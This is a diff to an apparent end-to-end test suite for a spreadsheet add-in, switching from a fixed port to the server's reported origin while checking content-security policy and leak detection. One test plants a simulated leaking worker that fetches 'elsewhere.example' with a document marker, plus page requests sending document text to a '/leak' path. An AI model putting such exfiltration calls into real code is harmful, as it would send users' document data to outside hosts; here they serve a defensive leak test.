@@ -12,8 +12,6 @@ import { ServerProcess, WorkbenchPage } from '../support/workbench-page';
  * carry one of them. What only the proxy sees are the browser's own services: they are searched for the documents' marks as well.
  */
 
-const PORT = 3155;
-const ORIGIN = `http://localhost:${PORT}`;
 const TITLE = 'Zyxolav Kanariehjem';
 const PDF_TITLE = 'Qvendrupbro Sangskole';
 
@@ -82,6 +80,7 @@ const POLICY =
   "style-src 'self' 'unsafe-inline'; img-src 'self' data:; font-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'";
 
 let server: ServerProcess;
+let origin: string;
 let proxy: RecordingProxy;
 let workbench: WorkbenchPage;
 const complaints: string[] = [];
@@ -93,9 +92,10 @@ const workers: string[] = [];
 const policies = new Map<string, string>();
 
 beforeAll(async () => {
-  server = await ServerProcess.start(['scripts/start.mjs'], /Ctrl\+C/, { PORT: String(PORT) });
+  server = await ServerProcess.start(['scripts/start.mjs'], /Ctrl\+C/);
+  origin = new URL(server.address).origin;
   proxy = await RecordingProxy.start();
-  workbench = await WorkbenchPage.open(`${ORIGIN}/`, { proxy: proxy.address });
+  workbench = await WorkbenchPage.open(`${origin}/`, { proxy: proxy.address });
   workbench.page.on('console', (message) => {
     if (message.type() === 'error') complaints.push(message.text());
   });
@@ -168,7 +168,7 @@ test('documents are imported, asked by formula, looked up, spoilt, put on paper,
   await workbench.until(() => workbench.cell('Ark1', 'A3'), ({ value }) => value === 73_919.3);
 });
 
-const isOwn = ({ url }: RecordedRequest): boolean => url.startsWith(`${ORIGIN}/`) || url.startsWith('data:');
+const isOwn = ({ url }: RecordedRequest): boolean => url.startsWith(`${origin}/`) || url.startsWith('data:');
 
 test.each([
   ['the browser', pageRequests],
@@ -176,7 +176,7 @@ test.each([
 ])('the record of %s covers the page, the pane, its catalogues and its workers', (_whose, of) => {
   const requests = typeof of === 'function' ? of() : of;
   for (const path of [/^\/$/, /^\/taskpane\.html/, /^\/chunks\/taskpane-/, /^\/catalogue\/index\.json/, /^\/assets\/catalogue\/index\.json/, ...workers.map((address) => new RegExp(`^${new URL(address).pathname}`))]) {
-    expect(requests.filter(({ url }) => url.startsWith(ORIGIN) && path.test(url.slice(ORIGIN.length)))).not.toEqual([]);
+    expect(requests.filter(({ url }) => url.startsWith(origin) && path.test(url.slice(origin.length)))).not.toEqual([]);
   }
 });
 
@@ -249,7 +249,7 @@ test('workers carry the policy too: it comes with their script, not with the pag
 
 test('both records would have shown a leak, from the page and from a worker', async () => {
   const seen = { page: pageRequests.length, proxy: proxy.requests.length };
-  proxy.scripts.set(`${ORIGIN}/leaking-worker.js`, `fetch('http://elsewhere.example/?Zyxolav').catch(() => postMessage('sent'))`);
+  proxy.scripts.set(`${origin}/leaking-worker.js`, `fetch('http://elsewhere.example/?Zyxolav').catch(() => postMessage('sent'))`);
   await workbench.pane.evaluate(async () => {
     await fetch(`/leak?${btoa('x Zyxolav y')}`);
     await fetch('/leak', { method: 'POST', body: '{"total":91373.7}' });
